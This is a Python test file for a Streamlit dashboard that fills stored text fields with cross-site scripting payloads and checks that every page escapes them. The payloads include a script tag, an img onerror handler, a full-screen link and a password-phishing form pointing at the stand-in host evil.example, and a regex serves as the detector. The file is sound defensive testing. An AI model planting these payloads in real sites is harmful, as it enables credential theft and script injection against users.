"""Issue 12 item 8: every stored text is escaped wherever a page builds HTML.

The demo store's free-text fields — region names, every text column of the projects, monthly reports,
problems and their history, account names, upload file names and audit keys — are overwritten with
hostile HTML (a link, a form, an image with onerror, a script). Every page is then drawn (as the office,
who sees all pages, with the problem board and the map's county panel open) and every markdown body
that allows HTML, and every st.html body, is checked: no hostile tag reaches the browser unescaped.
"""
from __future__ import annotations

import os
import re

import pytest
from sqlalchemy import literal, update
from streamlit.testing.v1 import AppTest

from lib import store
from lib.access import Actor
from lib.store.models import AuditLog, MonthlyReport, Problem, ProblemEvent, Project, Region, UploadBatch, User
from tests.conftest import ROOT

PAYLOADS = [
    '<a href="http://evil.example/" style="position:fixed;inset:0">全屏链接</a>',
    '<form action="http://evil.example/"><input name="password" type="password"></form>',
    '<img src=x onerror="alert(1)">',
    "<script>alert(1)</script>",
]
# what must never appear raw in an HTML body
HOSTILE = re.compile(r"<a href=\"http://evil|<form|<img src=x|<script>|<input name=\"password", re.I)

# (model, text columns a person can fill through an upload, a form or an account)
FIELDS = [
    (Region, ["name"]),
    (Project, ["name", "sector", "tags", "owner", "unit", "leader"]),
    (MonthlyReport, ["progress_text", "variance_note", "reporter"]),
    (Problem, ["description", "unit", "leader", "person", "measures"]),
    (ProblemEvent, ["note"]),
    (User, ["display_name"]),
    (UploadBatch, ["filename"]),
    (AuditLog, ["entity_key"]),
]

PAGES = ["overview.py", "map.py", "league.py", "project_list.py", "project_file.py", "problems.py",
         "upload.py", "admin.py", "audit.py"]


@pytest.fixture(scope="module")
def hostile_store(tmp_path_factory):
    from lib.demo import load_demo

    path = tmp_path_factory.mktemp("hostile") / "cockpit.db"
    old = os.environ.get("COCKPIT_DB_URL")
    os.environ["COCKPIT_DB_URL"] = f"sqlite:///{path}"
    store.dispose_all()
    eng = store.get_engine()
    store.upgrade(eng)
    with store.session_scope(eng) as s:
        assert load_demo(s)
        for model, cols in FIELDS:
            for i, col in enumerate(cols):
                payload = PAYLOADS[i % len(PAYLOADS)] + f"#{model.__tablename__}.{col}"
                if col in ("name", "leader", "reporter", "display_name", "person"):
                    payload = payload[:80]
                # names stay distinct (a page may group by them): the row's code is appended
                value = literal(payload) + model.code if hasattr(model, "code") else payload
                s.execute(update(model).values({col: value}))
    yield eng
    store.dispose_all()
    if old is None:
        os.environ.pop("COCKPIT_DB_URL", None)
    else:
        os.environ["COCKPIT_DB_URL"] = old


def fixed_scripts() -> set[str]:
    """The pages' own scripts: module-level string literals named ``*_JS`` (no formatting, so no stored
    text can be in them). A body equal to one of them is ours, word for word, and is not checked."""
    import ast

    out = set()
    for path in (ROOT / "pages").glob("*.py"):
        for node in ast.parse(path.read_text(encoding="utf-8")).body:
            if (isinstance(node, ast.Assign) and len(node.targets) == 1 and isinstance(node.targets[0], ast.Name)
                    and node.targets[0].id.endswith("_JS") and isinstance(node.value, ast.Constant)
                    and isinstance(node.value.value, str)):
                out.add(node.value.value.strip())
    return out


def html_bodies(at: AppTest) -> list[str]:
    """Every body the browser will read as HTML: markdown with HTML allowed, and st.html (less the
    pages' own fixed scripts)."""
    bodies = [m.value for m in at.markdown if getattr(m.proto, "allow_html", False)]
    bodies += [m.value for m in at.caption if getattr(m.proto, "allow_html", False)]
    bodies += [getattr(h.proto, "body", "") for h in at.get("html")]
    ours = fixed_scripts()
    return [b for b in bodies if b.strip() not in ours]


def test_the_fixed_scripts_are_found():
    """The exemption above names real scripts: the map's first-pick warm-up and the portrait check."""
    found = fixed_scripts()
    assert len(found) >= 2 and all(f.startswith("<script>") for f in found), [f[:40] for f in found]


def draw(page: str, **state) -> AppTest:
    at = AppTest.from_file(str(ROOT / "pages" / page), default_timeout=180)
    at.session_state["actor"] = Actor("office", "office")
    at.session_state["period"] = "2022-10"
    at.session_state["region_code"] = state.pop("region_code", None)
    at.session_state["lang"] = "zh"
    for k, v in state.items():
        at.session_state[k] = v
    return at.run()


def test_the_payloads_really_are_in_the_store(hostile_store):
    with store.session_scope(hostile_store) as s:
        assert s.query(Project).filter(Project.name.like("<a href%")).count() > 0
        assert s.query(Problem).filter(Problem.description.like("<a href%")).count() > 0
        assert s.query(Region).filter(Region.name.like("<a href%")).count() > 0


@pytest.mark.parametrize("page", PAGES)
def test_no_page_builds_html_from_stored_text_unescaped(hostile_store, page):
    # the map opens a county panel (its name in HTML), the problem board draws its cards
    extra = {"region_code": "532901"} if page == "map.py" else {}
    at = draw(page, **extra)
    assert not at.exception, [e.value for e in at.exception]
    bodies = html_bodies(at)
    bad = [b[:200] for b in bodies if HOSTILE.search(b)]
    assert not bad, bad
    if page in ("problems.py", "project_file.py"):
        # the stored text is shown (escaped), so the check above looked at real output
        shown = " ".join(bodies)
        assert "&lt;" in shown, f"{page}: no escaped stored text among {len(bodies)} HTML bodies"


@pytest.mark.parametrize("page", ["project_list.py", "league.py", "problems.py"])
def test_portrait_cards_show_stored_text_escaped(hostile_store, page):
    """Issue 14 item 4: the portrait cards of the wide lists carry the stored names (and descriptions)
    as escaped text."""
    at = draw(page, list_view="cards")  # the 表格/卡片 switch: only the chosen view is sent
    assert not at.exception, [e.value for e in at.exception]
    cards = [b for b in html_bodies(at) if 'class="ck-card"' in b]
    assert cards, f"{page}: no cards"
    assert not [c[:200] for c in cards if HOSTILE.search(c)]
    # the first card's title is a stored name (a project or a county), shown escaped
    assert all('<b class="ck-card-title">&lt;' in c for c in cards[:1]), cards[0][:400]
